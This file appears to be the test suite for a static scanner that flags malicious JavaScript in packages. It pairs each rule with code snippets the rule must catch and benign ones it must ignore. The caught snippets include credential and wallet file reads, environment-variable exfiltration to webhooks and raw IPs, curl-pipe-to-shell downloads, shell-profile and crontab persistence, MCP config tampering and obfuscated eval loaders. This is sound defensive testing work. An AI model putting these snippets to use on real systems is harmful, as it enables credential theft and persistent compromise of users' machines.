import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { RuleMetaSchema } from '../../core/finding.js';
import { analyseSource } from './module.js';
import { CODE_RULES } from './rules.js';

function ruleIds(code: string, file = 'src/index.js'): string[] {
  const result = analyseSource(file, code);
  if (result.parseError !== undefined) throw new Error(`fixture does not parse: ${result.parseError}`);
  return [...new Set(result.findings.map((f) => f.ruleId))].sort();
}

const CP = "const cp = require('child_process');";
const FS = "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';";
const B64 = 'Y29uc29sZS5sb2coInBheWxvYWQiKTsK';

/** Every rule: snippets it must fire on and snippets it must stay quiet on. */
const CASES: Record<string, { hit: string[]; miss: string[] }> = {
  'code/exec-dynamic-command': {
    hit: [
      "const { exec } = require('child_process'); exec(cmd);",
      "import { spawn } from 'node:child_process'; spawn(userCmd, []);",
      "require('child_process').execSync('ls ' + dir);",
      "import cp from 'child_process'; cp.execFile(bin, args);",
      "import { execa } from 'execa'; await execa(tool, args);",
      "import shell from 'shelljs'; shell.exec(`git ${sub}`);",
      `${CP} cp.spawn('sh', ['-c', script]);`,
      'var import_child_process = __toESM(require("child_process")); (0, import_child_process.spawn)(cmd);',
      'var m = { 317: (e) => { e.exports = require("child_process"); } }; function f(n) { const c = n(317); c.fork(x); }',
      "const { fork } = await import('node:child_process'); fork(modulePath);",
      "import { spawn } from 'child_process'; spawn('node', ['-e', script]);",
      "import { execFileSync } from 'child_process'; execFileSync('python3', ['-c', code]);",
      // A helper's parameter may come from callers outside the module, even when local callers pass literals.
      "import { execSync } from 'child_process'; export function run(c) { return execSync(c); } run('ls');",
    ],
    miss: [
      `${CP} cp.exec('ls -la');`,
      "import { spawn } from 'child_process'; spawn('git', ['status']);",
      "import { execSync } from 'child_process'; const CMD = 'npm --version'; execSync(CMD);",
      "import { spawn } from 'child_process'; spawn(process.execPath, [path.join(__dirname, 'worker.js')]);",
      "import { spawn } from 'child_process'; spawn('node', [path.join(__dirname, 'cli.js'), '--port', port]);",
      'const re = /a(b)/; re.exec(input);',
      "import Database from 'better-sqlite3'; const db = new Database(file); db.exec(sql);",
    ],
  },
  'code/eval-dynamic': {
    hit: [
      'eval(code);',
      "new Function('a', body);",
      'Function(src)();',
      "import vm from 'node:vm'; vm.runInNewContext(code, sandbox);",
      "import * as vm from 'vm'; new vm.Script(src);",
      '(0, eval)(x);',
      'globalThis.eval(x);',
    ],
    miss: ["eval('1 + 1');", "Function('return this')();", 'new Function();', "import vm from 'vm'; vm.runInNewContext('a + 1', ctx);", "import * as math from 'mathjs'; math.evaluate(expr);", 'parser.eval(expr);'],
  },
  'code/dynamic-require': {
    hit: ['require(name);', 'await import(modulePath);', "require('./plugins/' + plugin);"],
    miss: ["require('fs');", "await import('./x.js');", "require(path.join(__dirname, 'x.js'));", '__webpack_require__(id);', 'require.resolve(x);'],
  },
  'code/decode-exec': {
    hit: [
      `eval(Buffer.from('${B64}', 'base64').toString());`,
      `const p = atob('${B64}'); new Function(p)();`,
      'const s = String.fromCharCode(99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103); eval(s);',
      "import { execSync } from 'child_process'; const CMD = '6375726c202d73206874747073'; execSync(Buffer.from(CMD, 'hex').toString());",
      "eval(';)1(gol.elosnoc ;)2(gol.elosnoc'.split('').reverse().join(''));",
      "eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'));",
      `${FS} const f = path.join(os.tmpdir(), 'x.js'); fs.writeFileSync(f, Buffer.from('${B64}', 'base64')); require(f);`,
      `import vm from 'vm'; import zlib from 'zlib'; vm.runInThisContext(zlib.inflateSync(Buffer.from('${B64}', 'base64')).toString());`,
      `const data = '${B64}'; function load() { return Buffer.from(data, 'base64').toString('utf8'); } eval(load());`,
    ],
    miss: [
      `const config = JSON.parse(Buffer.from('${B64}', 'base64').toString('utf8'));`,
      'eval(userCode);',
      'eval(Buffer.from(args.code, "base64").toString());',
      `function a() { var e = atob('${B64}'); return e; } function b(e) { return eval(e); }`,
      "const s = name.split('').reverse().join(''); eval(s);",
    ],
  },
  'code/credential-read': {
    hit: [
      `${FS} fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));`,
      "import { readFile } from 'fs'; readFile(`${process.env.HOME}/.aws/credentials`, cb);",
      "import fs from 'fs/promises'; await fs.readFile('~/.npmrc', 'utf8');",
      `${FS} fs.copyFileSync(path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), tmp);`,
      `${FS} const home = os.homedir(); fs.readdirSync(path.join(home, 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'));`,
      `${CP} cp.execSync('cat ~/.ssh/id_ed25519');`,
      "import fg from 'fast-glob'; await fg('**/.env*', { cwd: os.homedir() });",
      `${CP} cp.execSync('security find-generic-password -s Chrome -w');`,
      `${FS} const kube = path.join(os.homedir(), '.kube', 'config'); const text = fs.readFileSync(kube, 'utf8');`,
      `${FS} fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));`,
      `${FS} function read(p) { return fs.readFileSync(p); } read(path.join(os.homedir(), '.ssh', 'id_rsa'));`,
      `${FS} for (const f of ['id_rsa', 'id_ed25519']) fs.readFileSync(path.join(os.homedir(), '.ssh', f));`,
    ],
    miss: [
      `${FS} fs.readFileSync(path.join(os.homedir(), '.ssh', 'known_hosts'));`,
      "import fs from 'fs'; fs.readFileSync('.env', 'utf8');",
      `${FS} fs.readFileSync(path.join(process.cwd(), '.env'));`,
      "import dotenv from 'dotenv'; dotenv.config();",
      `${FS} fs.readFileSync(path.join(__dirname, '..', '.npmrc'));`,
      `${FS} const p = path.join(os.homedir(), '.ssh', 'id_rsa.pub'); fs.readFileSync(p);`,
      "console.log('put your key in ~/.ssh/id_rsa');",
      `${FS} fs.readFileSync(path.join(os.homedir(), '.config', 'my-tool', 'settings.json'));`,
    ],
  },
  'code/mcp-config-read': {
    hit: [
      `${FS} fs.readFileSync(path.join(os.homedir(), 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json'), 'utf8');`,
      `${FS} const home = os.homedir(); fs.readFile(path.join(home, '.cursor', 'mcp.json'), cb);`,
      `${FS} fs.readFileSync(path.join(os.homedir(), '.codeium', 'windsurf', 'mcp_config.json'));`,
      `${FS} fs.readFileSync(path.join(os.homedir(), '.claude.json'));`,
    ],
    miss: [`${FS} fs.readFileSync(path.join(process.cwd(), '.mcp.json'));`, "import fs from 'fs'; fs.readFileSync('.vscode/mcp.json');", "const hint = '~/.cursor/mcp.json';"],
  },
  'code/mcp-config-write': {
    hit: [
      `${FS} fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), data);`,
      `${FS} fs.writeFileSync(path.join(process.env.APPDATA, 'Claude', 'claude_desktop_config.json'), JSON.stringify(cfg));`,
      `${FS} await fs.promises.writeFile(path.join(os.homedir(), '.claude.json'), s);`,
    ],
    miss: [`${FS} fs.writeFileSync(path.join(process.cwd(), '.cursor', 'mcp.json'), data);`, `${FS} fs.writeFileSync(path.join(os.tmpdir(), 'notes.json'), data);`],
  },
  'code/mcp-project-config-write': {
    hit: [`${FS} fs.writeFileSync(path.join(process.cwd(), '.cursor', 'mcp.json'), data);`, "import { writeFileSync } from 'fs'; writeFileSync('.mcp.json', text);"],
    miss: [`${FS} fs.writeFileSync(path.join(process.cwd(), 'notes.json'), data);`, "import { readFileSync } from 'fs'; readFileSync('.mcp.json');"],
  },
  'code/env-harvest': {
    hit: [
      'const all = JSON.stringify(process.env);',
      'Object.keys(process.env).forEach((k) => console.log(k));',
      'for (const [k, v] of Object.entries(process.env)) send(k, v);',
      'for (const k in process.env) out.push(k);',
      "await fetch('https://collect.io/e', { method: 'POST', body: JSON.stringify({ ...process.env }) });",
    ],
    miss: [
      'const key = process.env.API_KEY;',
      "import { spawn } from 'child_process'; spawn('node', [x], { env: { ...process.env, FOO: '1' } });",
      'const { HOME, PATH } = process.env;',
      'const token = process.env[`${prefix}_TOKEN`];',
    ],
  },
  'code/endpoint': {
    hit: [
      "await fetch('https://api.weather.io/v1/forecast');",
      "import axios from 'axios'; axios.get('https://api.github.com/user');",
      "import https from 'https'; https.request({ hostname: 'api.stripe.com', path: '/v1/charges' });",
      "new WebSocket('wss://stream.binance.com:9443/ws');",
      "const BASE = 'https://api.notion.com/v1'; fetch(`${BASE}/users/me`);",
      "import axios from 'axios'; const client = axios.create({ baseURL: 'https://api.tavily.com' }); client.post('/search', q);",
      "import axios from 'axios'; class T { urls = { search: 'https://api.tavily.com/search' }; constructor() { this.http = axios.create(); } run(q) { return this.http.post(this.urls.search, q); } }",
    ],
    miss: [
      'fetch(url);',
      "fetch('http://localhost:3000/health');",
      "// fetch('https://api.hidden.io')",
      "const docs = 'https://docs.mytool.dev/guide';",
      "const schema = { $id: 'https://json-schema.org/draft/2020-12/schema' };",
      "fetch('https://api.example.com/v1');",
    ],
  },
  'code/endpoint-raw-ip': {
    hit: [
      "fetch('http://45.61.136.12/x');",
      "import net from 'net'; net.connect(4444, '185.199.108.153');",
      "const C2 = 'http://91.92.240.10:8080/p'; fetch(C2 + '/beacon', { method: 'POST', body });",
      "fetch('http://[2606:4700:4700::1111]/dns-query');",
      `fetch('http://${45 * 2 ** 24 + 61 * 2 ** 16 + 136 * 256 + 12}/x');`,
      "fetch('http://0x2d.0x3d.0x88.0x0c/x');",
    ],
    miss: [
      "fetch('http://127.0.0.1:8080');",
      "fetch('http://192.168.1.10/');",
      "fetch('http://10.0.0.1');",
      "fetch('http://0.0.0.0:3000');",
      "fetch('http://169.254.169.254/latest/meta-data');",
      "fetch('http://[0:0:0:0:0:0:0:1]:8080/');",
      'fetch(`http://${2130706433}/`);',
      "const v = '1.2.3.4';",
      "const example = 'http://91.92.240.10:8080/p';",
    ],
  },
  'code/endpoint-exfil-service': {
    hit: [
      "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body });",
      "const T = 'https://api.telegram.org/bot123:AAH/sendMessage';",
      "import axios from 'axios'; axios.post('https://hooks.slack.com/services/T0/B0/XX', msg);",
      "const tunnel = 'https://abc-12-34.ngrok-free.app';",
      "fetch('https://webhook.site/0e5e0c7b-2f0a-4f0c-9e6b-1f2f3f4f5f6f', { method: 'POST' });",
    ],
    miss: [
      "const invite = 'https://discord.com/invite/abc';",
      "const api = 'https://api.telegram.org';",
      "const help = 'Paste your Slack webhook URL (https://hooks.slack.com/services/...) here';",
    ],
  },
  'code/endpoint-dynamic-dns': {
    hit: ["fetch('http://evil.duckdns.org/p');", "const c2 = 'https://x.ddns.net/a';", "import dns from 'dns'; dns.lookup('beacon.hopto.org', cb);"],
    miss: ["fetch('https://duckduckgo.com/?q=x');", "const site = 'https://www.noip.com/support';"],
  },
  'code/mail-hidden-recipient': {
    hit: [
      "fetch(URL, { body: JSON.stringify({ From: sender, To: to, Bcc: 'phan@giftshop.club', Subject: s, TextBody: t }) });",
      "transporter.sendMail({ from, to: input.to, bcc: 'collector@mailbox.io', subject, html });",
      "const mailOptions = { from, to }; mailOptions.bcc = 'x@attacker.io'; transporter.sendMail(mailOptions);",
      'const msg = { to: args.to, subject: s, text: body, bcc: `${args.bcc ?? ""},copy@drop.io` };',
      "const SPY = 'spy@evil.io'; send({ to: req.to, cc: SPY, subject, html });",
    ],
    miss: [
      'transporter.sendMail({ from, to: input.to, bcc: input.bcc, subject, html });',
      "transporter.sendMail({ to: 'ops@company.io', cc: 'team@company.io', subject: 'Daily report', text });",
      "const contact = { cc: 'a@b.io', name: 'x' };",
      "const m = { to, subject, text, bcc: [] };",
      "serialize({ scheme: 'mailto', to: ['joe@mail.io'], headers: { cc: 'bob@mail.io', body: 'hello' } });",
    ],
  },
  'code/detached-process': {
    hit: [
      `${CP} cp.spawn(cmd, args, { detached: true });`,
      "import { spawn } from 'child_process'; const child = spawn('node', ['daemon.js'], { stdio: 'ignore' }); child.unref();",
      `${CP} cp.execSync('nohup node server.js > /dev/null 2>&1 &');`,
      `${CP} cp.exec('setsid ./agent');`,
      "import { spawn } from 'child_process'; const opts = { detached: true, stdio: 'ignore' }; spawn(process.execPath, [f], opts);",
    ],
    miss: [
      "import { spawn } from 'child_process'; spawn('node', ['x.js'], { stdio: 'inherit' });",
      "import { spawn } from 'child_process'; spawn('node', ['x.js'], { stdio: 'ignore' });",
      "import { spawn } from 'child_process'; spawn('node', ['x.js'], { detached: false });",
    ],
  },
  'code/persistence': {
    hit: [
      `${FS} fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line);`,
      `${FS} const home = os.homedir(); fs.writeFileSync(path.join(home, 'Library/LaunchAgents/com.helper.agent.plist'), plist);`,
      `${CP} cp.execSync('(crontab -l; echo "* * * * * curl x") | crontab -');`,
      `${CP} cp.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d c:\\\\x.exe');`,
      `${FS} fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'helper.desktop'), entry);`,
      `${FS} fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key);`,
      `${CP} cp.execSync('echo "node ~/.x/run.js" >> ~/.zshrc');`,
    ],
    miss: [
      `${FS} fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8');`,
      `${CP} cp.execSync('crontab -l');`,
      "import fs from 'fs'; fs.writeFileSync('.bashrc', text);",
      "console.log('add this line to ~/.bashrc');",
      "const template = '{{app_path}} {{completion_command}} >> ~/.bashrc';",
    ],
  },
  'code/obfuscated': {
    hit: [
      Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join(''),
      '(function(_a,_b){var f=function(){};while(!![]){try{if(f()===_b)break;else _a.push(_a.shift());}catch(e){_a.push(_a.shift());}}})(arr,0x1234);',
      "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}));",
      `var j=${Array.from({ length: 120 }, () => '(![]+[])[+[]]').join('+')};`,
      Array.from({ length: 31 }, (_, i) => `var s${i}="\\x68\\x65\\x6c\\x6c\\x6f\\x${(0x20 + i).toString(16)}";`).join(''),
    ],
    miss: [
      Array.from({ length: 200 }, (_, i) => `var a${i}=function(e,t){return e+t},b${i}=[1,2,3].map(function(e){return e*2});`).join(''),
      'while(true){arr.push(arr.shift());if(arr[0]===x)break;}',
      Array.from({ length: 19 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join(''),
      'var NUL="\\x00",SOH="\\x01";',
    ],
  },
  'code/encoded-blob': {
    hit: [`const payload = '${randomBytes(1500).toString('base64')}';`, `const key = "${randomBytes(600).toString('hex')}";`, `const wasm = 'AGFzbQEAAAA${randomBytes(1200).toString('base64')}';`],
    miss: [
      `const logo = 'data:image/png;base64,${randomBytes(1500).toString('base64')}';`,
      `const pad = '${'A'.repeat(2000)}';`,
      `const text = '${'The quick brown fox jumps over the lazy dog. '.repeat(40)}';`,
      `const short = '${randomBytes(300).toString('base64')}';`,
    ],
  },
  'code/download-exec': {
    hit: [
      `${CP} cp.execSync('curl -fsSL https://get.tool.io/install.sh | sh');`,
      `${CP} cp.exec('powershell -c "iwr https://x.io/a.ps1 | iex"');`,
      'const r = await fetch(u); eval(await r.text());',
      'fetch(u).then((r) => r.text()).then((code) => new Function(code)());',
      "import https from 'https'; https.get(u, (res) => { let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => eval(d)); });",
      `${FS} import { spawn } from 'child_process'; const res = await fetch(url); const buf = Buffer.from(await res.arrayBuffer()); fs.writeFileSync(bin, buf); fs.chmodSync(bin, 0o755); spawn(bin);`,
      `${FS} import https from 'https'; import { execFile } from 'child_process'; const dest = path.join(os.tmpdir(), 'u'); https.get(url, (res) => res.pipe(fs.createWriteStream(dest))); execFile(dest);`,
      `${CP} cp.execSync('sh -c "$(curl -fsSL https://get.tool.io)"');`,
      `${CP} const script = await (await fetch(u)).text(); cp.execSync(script);`,
      `${CP} const script = await (await fetch(u)).text(); cp.spawn('bash', ['-c', script]);`,
    ],
    miss: [
      'const r = await fetch(u); const j = await r.json(); console.log(j.name);',
      `${CP} cp.execSync('curl -o out.zip https://x.io/a.zip');`,
      `${FS} const res = await fetch(url); fs.writeFileSync(path.join(os.tmpdir(), 'data.json'), await res.text());`,
      `${CP} cp.execSync('curl --version');`,
      `${CP} const res = await fetch(api); const data = await res.json(); cp.execSync(\`git clone \${data.repoUrl}\`);`,
      `${FS} const res = await fetch(u); const cache = path.join(os.tmpdir(), 'index.json'); fs.writeFileSync(cache, await res.text()); const index = require(cache);`,
    ],
  },
  'code/secrets-to-network': {
    hit: [
      `${FS} const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); await fetch('https://x.io', { method: 'POST', body: key });`,
      "import axios from 'axios'; axios.post(U, { env: process.env });",
      "import clipboardy from 'clipboardy'; const c = await clipboardy.read(); fetch(U + '?c=' + encodeURIComponent(c));",
      `${FS} import https from 'https'; const cfg = fs.readFileSync(path.join(os.homedir(), '.cursor', 'mcp.json')); const req = https.request(opts); req.write(cfg); req.end();`,
      `${FS} fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (err, data) => { fetch(U, { method: 'POST', body: data }); });`,
      "function collect() { return JSON.stringify(process.env); } fetch(U, { body: collect() });",
      "import dns from 'dns'; const s = JSON.stringify(process.env); dns.lookup(`${Buffer.from(s).toString('hex').slice(0, 60)}.x.io`, () => {});",
      `${FS} transporter.sendMail({ to, text: fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8') });`,
      "const ws = new WebSocket('wss://x.io'); ws.send(JSON.stringify(process.env));",
      `${CP} cp.execSync(\`curl -d '\${JSON.stringify(process.env)}' https://x.io\`);`,
      "const headers = {}; headers['x-data'] = Object.entries(process.env).join(';'); await fetch(U, { headers });",
      "import axios from 'axios'; const api = axios.create({ baseURL: B }); await api.post('/collect', { env: process.env });",
    ],
    miss: [
      'fetch(U, { headers: { Authorization: `Bearer ${process.env.API_KEY}` } });',
      "const env = process.env; fetch(U, { headers: { 'X-Key': env.KEY } });",
      'const { TOKEN } = process.env; fetch(U, { headers: { t: TOKEN } });',
      'function a(){var e=JSON.stringify(process.env);console.log(e)} function b(e){return fetch(U,{body:e})}',
      "import fs from 'fs'; const report = fs.readFileSync('report.txt', 'utf8'); fetch(U, { method: 'POST', body: report });",
      "import { spawn } from 'child_process'; spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });",
      "import axios from 'axios'; const client = axios.create({ baseURL: process.env.API_URL, headers: { key: process.env.API_KEY } }); client.get('/x');",
    ],
  },
  'code/clipboard-read': {
    hit: [
      "import clipboardy from 'clipboardy'; clipboardy.readSync();",
      `${CP} cp.execSync('pbpaste');`,
      "import { spawn } from 'child_process'; spawn('xclip', ['-selection', 'clipboard', '-o']);",
      `${CP} cp.exec('powershell -command Get-Clipboard');`,
      'const t = await navigator.clipboard.readText();',
    ],
    miss: ["import clipboardy from 'clipboardy'; clipboardy.writeSync('x');", `${CP} cp.execSync('pbcopy');`, "import { spawn } from 'child_process'; spawn('xclip', ['-selection', 'clipboard']);"],
  },
};

describe('rule catalogue', () => {
  it('has at least 15 rules, unique ids in the code namespace, all valid RuleMeta', () => {
    expect(CODE_RULES.length).toBeGreaterThanOrEqual(15);
    const ids = CODE_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of CODE_RULES) {
      expect(rule.id.startsWith('code/')).toBe(true);
      expect(RuleMetaSchema.safeParse(rule).success).toBe(true);
      if (rule.reference !== undefined) expect(rule.reference).toMatch(/^https:\/\//);
      if (rule.kind === 'threat') expect(rule.capability).toBeUndefined();
    }
  });

  it('has positive and negative cases for every rule except the two about analysis limits', () => {
    const tested = new Set(Object.keys(CASES));
    const untested = CODE_RULES.map((r) => r.id).filter((id) => !tested.has(id));
    expect(untested.sort()).toEqual(['code/analysis-cut-short', 'code/file-skipped']);
    for (const { hit, miss } of Object.values(CASES)) {
      expect(hit.length).toBeGreaterThan(0);
      expect(miss.length).toBeGreaterThan(0);
    }
  });
});

describe.each(Object.entries(CASES))('%s', (rule, { hit, miss }) => {
  it.each(hit)('fires on: %s', (code) => {
    expect(ruleIds(code)).toContain(rule);
  });
  it.each(miss)('stays quiet on: %s', (code) => {
    expect(ruleIds(code)).not.toContain(rule);
  });
});
